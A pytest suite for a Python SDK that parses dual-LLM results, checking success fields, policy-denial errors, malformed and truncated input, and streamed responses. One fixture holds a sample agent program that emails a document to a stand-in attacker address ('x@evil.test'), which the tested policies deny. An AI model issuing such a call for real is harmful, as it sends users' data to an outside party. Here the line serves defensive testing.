"""parse_result / DualLlmResult / collect_stream: every documented field, denials, and garbage."""

from __future__ import annotations

import json
import time
from typing import Any

import openai
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pytest_httpserver import HTTPServer

import sequrity_openai as sq

SESSION = "9653dc47-fb18-11f0-b0ee-7d965b6bbd63"
DENIAL = (
    "Tool call send_email denied by argument checking policies.\n"
    "Tool calls: {...}. Checking results: {'final_verdict': 'hard_denied', ...}"
)
CONTROL_FLOW = "The program violated control flow policies and cannot continue as retries on policy violations are disabled."

FULL = {
    "status": "success",
    "final_return_value": {
        "value": {"temperature": 97, "unit": "F"},
        "meta": {"tags": ["weather", "public"], "consumers": ["*"], "producers": ["get_weather"]},
    },
    "program": "final_return_value = get_weather(city='Paris')",
    "error": None,
    "policy_check_history": [
        {"tool": "get_weather", "allowed": [{"policy": "p1"}], "denied": [], "final_verdict": "allowed"}
    ],
    "namespace_snapshot": {
        "city": {"value": "Paris", "meta": {"tags": [], "consumers": ["*"], "producers": ["user"]}}
    },
    "session_meta": {"value": None, "meta": {"tags": ["turn-1"], "consumers": [], "producers": []}},
    "message_history_mismatch_detected": False,
}


def failure(message: str | None, code: str | None = "execution_error", **extra: Any) -> str:
    return json.dumps(
        {
            "status": "failure",
            "final_return_value": None,
            "program": "send_email(to='x@evil.test', body=doc)",
            "error": {"code": code, "message": message},
            **extra,
        }
    )


# -- every field -----------------------------------------------------------------------------


def test_every_documented_field() -> None:
    raw = json.dumps(FULL)
    result = sq.parse_result(raw)
    assert result.status == "success"
    assert result.ok
    assert result.raw == raw
    assert result.value == {"temperature": 97, "unit": "F"}
    assert result.meta == sq.ValueMeta(
        producers=("get_weather",), consumers=("*",), tags=("weather", "public")
    )
    assert result.error is None
    assert result.program == "final_return_value = get_weather(city='Paris')"
    assert result.policy_check_history == FULL["policy_check_history"]
    assert result.namespace_snapshot == FULL["namespace_snapshot"]
    assert result.session_meta == FULL["session_meta"]
    assert result.message_history_mismatch_detected is False
    assert result.document == FULL
    assert not result.is_policy_violation
    assert result.raise_for_status() is result


def test_minimal_document_leaves_optional_fields_empty() -> None:
    result = sq.parse_result('{"status": "success", "final_return_value": {"value": 97}}')
    assert (result.status, result.value) == ("success", 97)
    assert result.meta == sq.ValueMeta()
    assert result.error is None
    assert result.program is None
    assert result.policy_check_history is None
    assert result.namespace_snapshot is None
    assert result.session_meta is None
    assert result.message_history_mismatch_detected is None


def test_mismatch_flag_true_and_error_as_plain_string() -> None:
    result = sq.parse_result(
        json.dumps({"status": "failure", "error": "boom", "message_history_mismatch_detected": True})
    )
    assert result.message_history_mismatch_detected is True
    assert result.error == sq.ResultError(code=None, message="boom")
    with pytest.raises(sq.SequrityExecutionError, match="boom"):
        result.raise_for_status()


def test_failure_fields() -> None:
    result = sq.parse_result(failure("Tool get_weather raised: timeout", code="tool_error"))
    assert result.status == "failure"
    assert not result.ok
    assert result.value is None
    assert result.error == sq.ResultError(code="tool_error", message="Tool get_weather raised: timeout")
    assert result.program == "send_email(to='x@evil.test', body=doc)"


# -- denials and other failures --------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (failure(DENIAL), DENIAL),
        (failure(CONTROL_FLOW), CONTROL_FLOW),
        (
            failure("Final return value was blocked by the data flow policy."),
            "blocked by the data flow policy",
        ),
        (failure("Request rejected: policy violation"), "policy violation"),
        (failure("nope", code="POLICY_VIOLATION"), "nope"),
        (failure("nope", code="denied_by_policy"), "nope"),
        (
            failure("", policy_check_history=[{"tool": "send_email", "denied": [{"policy": "no-external"}]}]),
            "dual-llm execution failed",
        ),
        (failure(None, policy_check_history=[{"final_verdict": "hard_denied"}]), "dual-llm execution failed"),
        (
            failure("  ", code=None, policy_check_history=[{"tool_name": "send_email", "decision": "deny"}]),
            "dual-llm execution failed",
        ),
    ],
)
def test_policy_denials_raise_policy_violation(raw: str, reason: str) -> None:
    result = sq.parse_result(raw)
    assert result.status == "failure"
    assert result.is_policy_violation
    with pytest.raises(sq.PolicyViolation) as caught:
        result.raise_for_status()
    assert reason in str(caught.value)
    assert caught.value.result is result
    assert isinstance(caught.value, sq.SequrityExecutionError)


@pytest.mark.parametrize(
    ("raw", "code"),
    [
        (failure("NameError: name 'x' is not defined", code="runtime_error"), "runtime_error"),
        (failure("Failed to parse policy code: unexpected token 'deny' at 1:12"), "execution_error"),
        (failure("Invalid policy", code="INVALID_POLICY"), "INVALID_POLICY"),
        (failure("Maximum number of planning steps reached"), "execution_error"),
        (failure("NameError: name 'denied_by_policy' is not defined"), "execution_error"),
        (failure("", code="timeout"), "timeout"),
        (failure("", code="x", policy_check_history=[{"decision": "allow"}, {"denied": []}, "junk"]), "x"),
        # A denial earlier in the history does not explain a failure that names another cause.
        (failure("KeyError: 'to'", policy_check_history=[{"denied": [{"policy": "p"}]}]), "execution_error"),
        (json.dumps({"status": "failure"}), None),
    ],
)
def test_other_failures_raise_execution_error_not_policy_violation(raw: str, code: str | None) -> None:
    result = sq.parse_result(raw)
    assert not result.is_policy_violation
    with pytest.raises(sq.SequrityExecutionError) as caught:
        result.raise_for_status()
    assert not isinstance(caught.value, sq.PolicyViolation)
    assert caught.value.code == code
    assert caught.value.result is result
    assert str(caught.value)  # never an empty message


@pytest.mark.parametrize(
    "content",
    [
        "",  # strip_response_content
        "Hello! How can I help you today?",  # single-llm
        "```json\n" + json.dumps(FULL) + "\n```",
        '{"status": "in_progress"}',
        '{"status": "unknown", "raw": "x"}',
        "[1, 2, 3]",
        "null",
        '"success"',
    ],
)
def test_content_that_is_not_a_dual_llm_document_is_unknown(content: str) -> None:
    result = sq.parse_result(content)
    assert result.status == "unknown"
    assert result.raw == content
    assert result.document is None
    assert not result.is_policy_violation
    assert result.raise_for_status() is result


# -- the shapes parse_result accepts, over real HTTP -----------------------------------------


def completion(content: str | None, tool_calls: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    message: dict[str, Any] = {"role": "assistant", "content": content}
    if tool_calls:
        message["tool_calls"] = tool_calls
    return {
        "id": "chatcmpl-1",
        "object": "chat.completion",
        "created": int(time.time()),
        "model": "m",
        "choices": [
            {"index": 0, "message": message, "finish_reason": "tool_calls" if tool_calls else "stop"}
        ],
    }


def sse(content: str, finish_reason: str = "stop") -> str:
    def chunk(delta: dict[str, Any], finish: str | None = None) -> str:
        body = {
            "id": "c",
            "object": "chat.completion.chunk",
            "created": 0,
            "model": "m",
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
        }
        return f"data: {json.dumps(body)}\n\n"

    pieces = [content[i : i + 5] for i in range(0, len(content), 5)]
    return "".join(
        [chunk({"role": "assistant"}), *(chunk({"content": p}) for p in pieces), chunk({}, finish_reason)]
    ) + ("data: [DONE]\n\n")


@pytest.fixture
def client(httpserver: HTTPServer) -> openai.OpenAI:
    return sq.create_client(api_key="sk-test", base_url=httpserver.url_for("/"), max_retries=0)


ROUTE = "/control/chat/v1/chat/completions"


def test_parse_a_chat_completion_and_its_message(httpserver: HTTPServer, client: openai.OpenAI) -> None:
    httpserver.expect_request(ROUTE).respond_with_json(
        completion(failure(DENIAL)), headers={"X-Session-ID": SESSION}
    )
    answer = client.chat.completions.create(model="m", messages=[{"role": "user", "content": "mail it"}])
    for source in (answer, answer.choices[0].message, answer.choices[0].message.content, answer.model_dump()):
        result = sq.parse_result(source)
        assert result.status == "failure"
        assert result.error is not None
        assert result.error.message == DENIAL
        with pytest.raises(sq.PolicyViolation, match="send_email denied by argument checking policies"):
            result.raise_for_status()


def test_parse_a_collected_stream(httpserver: HTTPServer, client: openai.OpenAI) -> None:
    document = json.dumps(FULL)
    httpserver.expect_request(ROUTE).respond_with_data(
        sse(document), content_type="text/event-stream", headers={"X-Session-ID": SESSION}
    )
    stream = client.chat.completions.create(
        model="m", messages=[{"role": "user", "content": "x"}], stream=True
    )
    collected = sq.collect_stream(stream)
    assert collected.text == document
    assert collected.session_id == SESSION
    assert collected.finish_reason == "stop"
    assert collected.chunks == len(range(0, len(document), 5)) + 2
    assert sq.parse_result(collected).value == FULL["final_return_value"]["value"]  # type: ignore[index]
    assert collected.result() == sq.parse_result(document)


@pytest.mark.parametrize("finish_reason", ["length", "content_filter"])
def test_a_cut_off_stream_is_collected_not_raised(
    httpserver: HTTPServer, client: openai.OpenAI, finish_reason: str
) -> None:
    # The SDK's get_final_completion() raises on these; collect_stream reports what arrived.
    httpserver.expect_request(ROUTE).respond_with_data(
        sse("partial answer", finish_reason), content_type="text/event-stream"
    )
    stream = client.chat.completions.create(
        model="m", messages=[{"role": "user", "content": "x"}], stream=True
    )
    collected = sq.collect_stream(stream)
    assert (collected.text, collected.finish_reason) == ("partial answer", finish_reason)
    assert collected.completion is not None
    assert collected.completion.choices[0].finish_reason == finish_reason


async def test_parse_an_async_collected_stream(httpserver: HTTPServer) -> None:
    httpserver.expect_request(ROUTE).respond_with_data(
        sse(failure(CONTROL_FLOW)), content_type="text/event-stream", headers={"X-Session-ID": SESSION}
    )
    client = sq.create_async_client(api_key="sk-test", base_url=httpserver.url_for("/"), max_retries=0)
    stream = await client.chat.completions.create(
        model="m", messages=[{"role": "user", "content": "x"}], stream=True
    )
    collected = await sq.acollect_stream(stream)
    assert collected.session_id == SESSION
    with pytest.raises(sq.PolicyViolation, match="control flow"):
        collected.result().raise_for_status()


def test_a_tool_call_answer_is_unknown_and_carries_the_session(
    httpserver: HTTPServer, client: openai.OpenAI
) -> None:
    call = {"id": f"tc-{SESSION}-abc", "type": "function", "function": {"name": "f", "arguments": "{}"}}
    httpserver.expect_request(ROUTE).respond_with_json(completion(None, [call]))
    answer = client.chat.completions.create(model="m", messages=[{"role": "user", "content": "x"}])
    result = sq.parse_result(answer)
    assert (result.status, result.raw) == ("unknown", "")
    assert sq.session_id_of(answer) == SESSION


@pytest.mark.parametrize(
    "source",
    [
        json.dumps(FULL).encode(),
        FULL,
        {"role": "assistant", "content": json.dumps(FULL)},
        {"role": "assistant", "content": [{"type": "text", "text": json.dumps(FULL)}]},
        sq.CollectedStream(text=json.dumps(FULL)),
    ],
    ids=["bytes", "decoded-document", "message-dict", "content-parts", "collected"],
)
def test_other_accepted_shapes(source: object) -> None:
    result = sq.parse_result(source)
    assert result.status == "success"
    assert result.value == FULL["final_return_value"]["value"]  # type: ignore[index]
    assert json.loads(result.raw) == FULL


@pytest.mark.parametrize("source", [None, 42, object(), [], {}, {"choices": []}, sq.CollectedStream()])
def test_things_without_content_are_unknown(source: object) -> None:
    result = sq.parse_result(source)
    assert (result.status, result.raw) == ("unknown", "")


def test_pathological_nesting_does_not_raise() -> None:
    deep = "[" * 100_000 + "]" * 100_000
    assert sq.parse_result(deep).status == "unknown"
    nested = "[" * 900 + "]" * 900
    raw = (
        '{"status": "failure", "final_return_value": {"value": 1, "meta": {"producers": '
        + nested
        + ', "tags": ["ok"]}}, "error": {"code": '
        + nested
        + ', "message": '
        + nested
        + "}}"
    )
    result = sq.parse_result(raw)
    assert result.status in ("failure", "unknown")
    assert result.raw == raw
    if result.status == "failure":
        assert result.meta.tags == ("ok",)
        with pytest.raises(sq.SequrityExecutionError):
            result.raise_for_status()


# -- hypothesis: never raises ----------------------------------------------------------------

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4)
    ),
    max_leaves=10,
)
statuses = st.sampled_from(["success", "failure"])
names = st.lists(st.text(max_size=10), max_size=3)
well_formed = st.fixed_dictionaries(
    {
        "status": statuses,
        "final_return_value": st.fixed_dictionaries(
            {
                "value": json_values,
                "meta": st.fixed_dictionaries({"producers": names, "consumers": names, "tags": names}),
            }
        ),
        "program": st.none() | st.text(),
        "error": st.none() | st.fixed_dictionaries({"code": st.text(max_size=20), "message": st.text()}),
    },
    optional={
        "policy_check_history": st.lists(
            st.dictionaries(st.text(max_size=8), json_values, max_size=3), max_size=3
        ),
        "namespace_snapshot": st.dictionaries(st.text(max_size=8), json_values, max_size=3),
        "session_meta": json_values,
        "message_history_mismatch_detected": st.booleans(),
    },
)
FIELDS = [
    "status",
    "final_return_value",
    "program",
    "error",
    "policy_check_history",
    "namespace_snapshot",
    "session_meta",
    "message_history_mismatch_detected",
]
HYPOTHESIS = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def check_invariants(result: sq.DualLlmResult) -> None:
    """What every result satisfies, whatever it was parsed from."""
    assert result.status in ("success", "failure", "unknown")
    assert isinstance(result.raw, str)
    assert result.program is None or isinstance(result.program, str)
    assert result.policy_check_history is None or isinstance(result.policy_check_history, list)
    assert result.message_history_mismatch_detected in (None, True, False)
    for names_ in (result.meta.producers, result.meta.consumers, result.meta.tags):
        assert all(isinstance(n, str) for n in names_)
    if result.error is not None:
        assert isinstance(result.error.message, str)
        assert result.error.code is None or isinstance(result.error.code, str)
    if result.status == "failure":
        with pytest.raises(sq.SequrityExecutionError):
            result.raise_for_status()
    else:
        assert result.raise_for_status() is result


@HYPOTHESIS
@given(st.text())
def test_arbitrary_text(text: str) -> None:
    result = sq.parse_result(text)
    assert result.raw == text
    try:
        document = json.loads(text)
    except ValueError:
        assert result.status == "unknown"
    else:
        expected = document.get("status") if isinstance(document, dict) else None
        assert result.status == (expected if expected in ("success", "failure") else "unknown")
    check_invariants(result)


@HYPOTHESIS
@given(json_values)
def test_arbitrary_json_values(value: object) -> None:
    raw = json.dumps(value)
    result = sq.parse_result(raw)
    assert result.raw == raw
    expected = value.get("status") if isinstance(value, dict) else None
    assert result.status == (expected if expected in ("success", "failure") else "unknown")
    check_invariants(result)
    check_invariants(sq.parse_result(value))


@HYPOTHESIS
@given(well_formed)
def test_well_formed_documents(document: dict[str, Any]) -> None:
    raw = json.dumps(document)
    result = sq.parse_result(raw)
    assert result.status == document["status"]
    assert result.value == document["final_return_value"]["value"]
    meta = document["final_return_value"]["meta"]
    assert result.meta == sq.ValueMeta(*(tuple(meta[k]) for k in ("producers", "consumers", "tags")))
    assert result.program == document["program"]
    if document["error"] is None:
        assert result.error is None
    else:
        assert result.error == sq.ResultError(**document["error"])
    assert result.policy_check_history == document.get("policy_check_history")
    assert result.namespace_snapshot == document.get("namespace_snapshot")
    assert result.session_meta == document.get("session_meta")
    assert result.message_history_mismatch_detected == document.get("message_history_mismatch_detected")
    assert result.document == document
    check_invariants(result)


@HYPOTHESIS
@given(well_formed, st.data())
def test_truncated_documents(document: dict[str, Any], data: st.DataObject) -> None:
    raw = json.dumps(document)
    cut = data.draw(st.integers(min_value=0, max_value=len(raw) - 1))
    result = sq.parse_result(raw[:cut])
    assert result.status == "unknown"
    assert result.raw == raw[:cut]
    check_invariants(result)


@HYPOTHESIS
@given(well_formed, st.lists(st.sampled_from(FIELDS[1:]), unique=True, min_size=1), st.data())
def test_documents_with_wrong_field_types(
    document: dict[str, Any], fields: list[str], data: st.DataObject
) -> None:
    for name in fields:
        document[name] = data.draw(json_values, label=name)
    raw = json.dumps(document)
    result = sq.parse_result(raw)
    assert result.status == document["status"]
    assert result.raw == raw
    check_invariants(result)


@HYPOTHESIS
@given(statuses, json_values)
def test_wrong_error_and_meta_shapes(status: str, junk: object) -> None:
    raw = json.dumps(
        {
            "status": status,
            "final_return_value": {
                "value": junk,
                "meta": {"producers": junk, "consumers": [junk], "tags": junk},
            },
            "error": {"code": junk, "message": junk},
            "policy_check_history": [junk],
        }
    )
    result = sq.parse_result(raw)
    assert result.status == status
    assert result.value == junk
    check_invariants(result)


@HYPOTHESIS
@given(st.one_of(json_values, st.binary(), st.builds(object), st.tuples(json_values)))
def test_arbitrary_objects(obj: object) -> None:
    check_invariants(sq.parse_result(obj))
